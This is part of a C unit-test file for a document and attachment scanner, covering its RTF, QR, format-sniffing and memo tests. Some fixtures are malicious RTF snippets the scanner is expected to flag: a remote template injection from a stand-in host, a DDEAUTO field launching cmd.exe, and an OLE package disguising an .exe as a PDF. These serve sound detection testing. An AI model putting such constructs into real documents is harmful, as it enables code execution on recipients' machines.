	run(ex_rtf, t.p, t.len, NULL, &r);
	want("RTF package", &r,
	     YES("F doc.ole_object RTF object 1 (Package): OLE Package object labelled invoice.pdf carries "
	         "invoice.pdf.exe",
	         "O invoice.pdf.exe - 4"),
	     NONE);
	rec_free(&r);

	/* \bin data inside \objdata, and an Equation Editor class */
	buf_reset(&t);
	buf_puts(&t, "{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 01050000020000000b000000"
	             "4571756174696f6e2e3300"
	             "0000000000000000"
	             "08000000\\bin8 ABCDEFGH}}}");
	rec_init(&r);
	run(ex_rtf, t.p, t.len, NULL, &r);
	want("RTF Equation", &r,
	     YES("F doc.ole_object RTF object 1 (Equation.3): embedded OLE object of the Equation Editor"), NONE);
	rec_free(&r);

	/* template injection, fields */
	static const char fields[] =
	    "{\\rtf1{\\*\\template https://tpl.example/t.dotm}"
	    "{\\field{\\*\\fldinst {HYPERLINK \"https://link.example/a\"}}{\\fldrslt x}}"
	    "{\\field{\\*\\fldinst INCLUDEPICTURE \"\\\\\\\\share.example\\\\p.png\" \\\\d}}"
	    "{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"}}}";
	rec_init(&r);
	run(ex_rtf, fields, sizeof(fields) - 1, NULL, &r);
	want("RTF fields", &r,
	     YES("F doc.remote_content RTF template https://tpl.example/t.dotm",
	         "L https://tpl.example/t.dotm (RTF template)", "L https://link.example/a (RTF hyperlink)",
	         "F doc.remote_content RTF INCLUDEPICTURE field loads", "F content.auto_action RTF DDEAUTO field runs"),
	     NONE);
	rec_free(&r);

	/* 100000 nested groups: bounded, reported */
	buf_reset(&t);
	for (i = 0; i < 100000; i++)
		buf_putc(&t, '{');
	rec_init(&r);
	run(ex_rtf, t.p, t.len, NULL, &r);
	want("RTF nesting", &r, YES("F content.limits RTF: groups nested deeper than 512"), NONE);
	rec_free(&r);

	/* fuzz regression: an \object group that closes inside its own \objdata, then more data */
	static const char ended[] = "{\\object{\\*\\objdata 0105{\\object}0000\\bin2 ab}}";
	rec_init(&r);
	run(ex_rtf, ended, sizeof(ended) - 1, NULL, &r);
	rec_free(&r);

	if ((data = slurp("object.rtf", &len)) != NULL) {
		rec_init(&r);
		run(ex_rtf, data, len, NULL, &r);
		want("object.rtf (newline after objdata)", &r, YES("O payload.exe - "), NONE);
		rec_free(&r);
		x_free(data);
	}
	buf_free(&t);
	buf_free(&hex);
	assert_int_equal(failures, 0);
}

/* ---- QR ---- */

static void test_qr(void **state)
{
	static const char *const files[] = {"qr.png", "qr.jpg", "qr.gif", "qr-inverted.png", "qr-in-photo.jpg"};
	ex_limits lim;
	size_t i, len;
	char *data;
	rec r;

	(void)state;
	failures = 0;
	if (!have_qr) {
		print_message("  QR pictures not made (qrencode or python3-pil missing): QR cases skipped\n");
		skip();
	}
	for (i = 0; i < MW_ARRAY_LEN(files); i++) {
		data = slurp(files[i], &len);
		assert_non_null(data);
		rec_init(&r);
		run(ex_qr, data, len, NULL, &r);
		want(files[i], &r,
		     YES("L https://qr-login.example/verify?u=1 (QR code)",
		         "F image.qr_link QR code in an image links to https://qr-login.example/verify?u=1"),
		     NONE);
		rec_free(&r);
		/* truncated pictures: no crash, nothing or the same */
		rec_init(&r);
		run(ex_qr, data, len / 2, NULL, &r);
		rec_free(&r);
		x_free(data);
	}
	data = slurp("qr.png", &len);
	ex_limits_default(&lim);
	lim.max_pixels = 1000;
	rec_init(&r);
	run(ex_qr, data, len, &lim, &r);
	want("QR over the pixel limit", &r, YES("F content.limits image: PNG image of"), YES("L"));
	rec_free(&r);
	x_free(data);
	data = slurp("noqr.png", &len);
	assert_non_null(data);
	rec_init(&r);
	run(ex_qr, data, len, NULL, &r);
	want("picture without QR", &r, NONE, YES("F", "L"));
	rec_free(&r);
	x_free(data);
	assert_int_equal(failures, 0);
}

/* ---- the table, sniffing, limits from the configuration, stopping ---- */

static void test_table_and_sniff(void **state)
{
	static const struct {
		const char *file, *format;
	} c[] = {{"actions.pdf", "pdf"},     {"external.docx", "office"}, {"package.ole", "ole"},
	         {"object.rtf", "rtf"},      {"invite.ics", "ics"},       {"script.svg", "html"},
	         {"smuggling.html", "html"}, {"uuencode.txt", "legacy"},  {"qr.png", "qr"}};
	const ex_format *f;
	mw_config *cfg;
	ex_limits a, b;
	char err[256];
	size_t i, n, len;

	(void)state;
	failures = 0;
	f = ex_formats(&n);
	assert_true(n >= 10);
	for (i = 0; i < n; i++)
		assert_ptr_equal(ex_format_find(f[i].name), &f[i]);
	assert_null(ex_format_find("nope"));
	for (i = 0; i < MW_ARRAY_LEN(c); i++) {
		char *data = slurp(c[i].file, &len);
		if (data == NULL)
			continue; /* qr.png without qrencode */
		f = ex_sniff(data, len);
		if (f == NULL || strcmp(f->name, c[i].format) != 0) {
			print_error("sniff %s: got %s, want %s\n", c[i].file, f ? f->name : "none", c[i].format);
			failures++;
		}
		x_free(data);
	}
	/* the defaults of [limits] are the EX_DEF_ values */
	assert_int_equal(config_load(NULL, NULL, 0, &cfg, err, sizeof(err)), 0);
	config_extract_limits(cfg, &a);
	ex_limits_default(&b);
	assert_memory_equal(&a, &b, sizeof(a));
	config_unref(cfg);
	assert_int_equal(failures, 0);
}

static void test_stop(void **state)
{
	size_t len;
	char *data = slurp("external.docx", &len);
	rec r;

	(void)state;
	failures = 0;
	assert_non_null(data);
	rec_init(&r);
	r.stop_after = 2;
	assert_int_equal(run(ex_office, data, len, NULL, &r), 1);
	assert_int_equal(r.calls, 2);
	rec_free(&r);
	x_free(data);
}

/* memo_run - one extractor through the memo, recorded in r */
static int memo_run(ex_memo *m, const ex_format *f, const void *data, size_t len, const ex_limits *lim, rec *r)
{
	mw_emit e = {on_object, on_link, on_finding, r};

	return ex_memo_run(m, f, mw_siphash64(mw_hash_key(), data, len), data, len, lim, &e);
}

/*
 * test_memo - through the memo, every fixture gives the calls of a plain
 * run, object bytes included, the first time (recorded) and the second
 * (replayed); other limits are another key; a run a callback stopped, or
 * one over the bounds, is not kept
 */
static void test_memo(void **state)
{
	DIR *d = opendir(fxdir);
	struct dirent *de;
	ex_memo *m = ex_memo_new(64u << 20), *tiny = ex_memo_new(4096);
	ex_memo_stat ms;
	ex_limits lim, other;
	unsigned long nfmt = 0;

	(void)state;
	assert_null(ex_memo_new(0));
	assert_non_null(d);
	ex_limits_default(&lim);
	other = lim;
	other.max_links = 1;
	while ((de = readdir(d)) != NULL) {
		size_t len;
		char *data;
		const ex_format *f;
		rec plain, first, again, cut, tinyr;
		int rc, k;

		if (de->d_name[0] == '.' || (data = slurp(de->d_name, &len)) == NULL)
			continue;
		if ((f = ex_sniff(data, len)) == NULL) {
			x_free(data);
			continue;
		}
		nfmt++;
		rec_init(&plain);
		rec_init(&first);
		rec_init(&again);
		rec_init(&cut);
		rec_init(&tinyr);
		rc = run(f->run, data, len, &lim, &plain);
		assert_int_equal(memo_run(m, f, data, len, &lim, &first), rc);
		assert_int_equal(memo_run(m, f, data, len, &lim, &again), rc);
		assert_string_equal(first.log.p, plain.log.p);
		assert_string_equal(again.log.p, plain.log.p);
		assert_int_equal(again.last_obj.len, plain.last_obj.len);
		if (plain.last_obj.len)
			assert_memory_equal(again.last_obj.p, plain.last_obj.p, plain.last_obj.len);
		/* a replay a callback stops ends there, as the run would */
		cut.stop_after = 1;
		k = memo_run(m, f, data, len, &lim, &cut);
		assert_int_equal(k, plain.log.len > 0 ? 1 : rc);
		/* the tiny memo keeps only small recordings, and gives the same calls either way */
		assert_int_equal(memo_run(tiny, f, data, len, &lim, &tinyr), rc);
		assert_string_equal(tinyr.log.p, plain.log.p);
		rec_free(&plain);
		rec_free(&first);
		rec_free(&again);
		rec_free(&cut);
		rec_free(&tinyr);
		x_free(data);
	}
	closedir(d);
	assert_true(nfmt >= 10);
	ex_memo_stats(m, &ms);
	assert_int_equal(ms.kept, nfmt);
	assert_int_equal(ms.misses, nfmt);
	assert_int_equal(ms.hits, 2 * nfmt);
	assert_int_equal(ms.entries, nfmt);
	ex_memo_stats(tiny, &ms);
	assert_true(ms.bytes <= 4096);
	{
		/* a 3,000-byte object is over the tiny memo's entry bound (1 KB): never kept, run each time */
		mw_buf pl, text;
		rec a, b;
		ex_memo_stat before;

		buf_init(&pl, 0);
		buf_init(&text, 0);
		payload(&pl, 3000);
		uuencode(&text, "big.bin", (const unsigned char *)pl.p, pl.len);
		ex_memo_stats(tiny, &before);
		rec_init(&a);
		rec_init(&b);
		assert_int_equal(memo_run(tiny, ex_format_find("uuencode"), text.p, text.len, &lim, &a), 0);
		assert_int_equal(memo_run(tiny, ex_format_find("uuencode"), text.p, text.len, &lim, &b), 0);
		assert_int_equal(b.last_obj.len, 3000);
		assert_string_equal(a.log.p, b.log.p);
		ex_memo_stats(tiny, &ms);
		assert_int_equal(ms.misses, before.misses + 2);
		assert_int_equal(ms.kept, before.kept);
		rec_free(&a);
		rec_free(&b);
		buf_free(&pl);
		buf_free(&text);
	}
	{
		/* other limits: another key, and their own answer */
		size_t len;
		char *data = slurp("external.docx", &len);
		const ex_format *f = ex_format_find("office");
		rec a, b;

		assert_non_null(data);
		assert_non_null(f);
		rec_init(&a);
		rec_init(&b);
		run(f->run, data, len, &other, &a);
		memo_run(m, f, data, len, &other, &b);
		assert_string_equal(b.log.p, a.log.p);
		ex_memo_stats(m, &ms);
		assert_int_equal(ms.misses, nfmt + 1);
		/* a run a callback stopped is not kept: the next one runs again */
		rec_free(&b);
		rec_init(&b);
		b.stop_after = 1;
		other.max_links = 2;
		assert_int_equal(memo_run(m, f, data, len, &other, &b), 1);
		rec_free(&b);
		rec_init(&b);
		memo_run(m, f, data, len, &other, &b);
		ex_memo_stats(m, &ms);
		assert_int_equal(ms.misses, nfmt + 3);
		assert_int_equal(ms.kept, nfmt + 2);
		rec_free(&a);
		rec_free(&b);
		x_free(data);
	}
	ex_memo_free(m);
	ex_memo_free(tiny);
}

static int setup(void **state)
{
	char cmd[600], path[600];

	(void)state;
	if (mkdtemp(fxdir) == NULL)
		return -1;
	/* Debian's python3 (python3-pil), not one first on PATH */
	snprintf(cmd, sizeof(cmd), "%s %s %s 2>/dev/null",
	         access("/usr/bin/python3", X_OK) == 0 ? "/usr/bin/python3" : "python3", FIXTURES, fxdir);
	if (system(cmd) != 0)
		return -1;
	snprintf(path, sizeof(path), "%s/qr.gif", fxdir);
	have_qr = access(path, R_OK) == 0;
	return 0;
}

static int teardown(void **state)
{
	char cmd[600];

	(void)state;
	snprintf(cmd, sizeof(cmd), "rm -rf %s", fxdir);
	return system(cmd) == 0 ? 0 : -1;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_uuencode), cmocka_unit_test(test_yenc),
	    cmocka_unit_test(test_binhex),   cmocka_unit_test(test_ics),
	    cmocka_unit_test(test_html),     cmocka_unit_test(test_pdf),
	    cmocka_unit_test(test_office),   cmocka_unit_test(test_rtf),
	    cmocka_unit_test(test_qr),       cmocka_unit_test(test_table_and_sniff),
	    cmocka_unit_test(test_stop),     cmocka_unit_test(test_memo),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
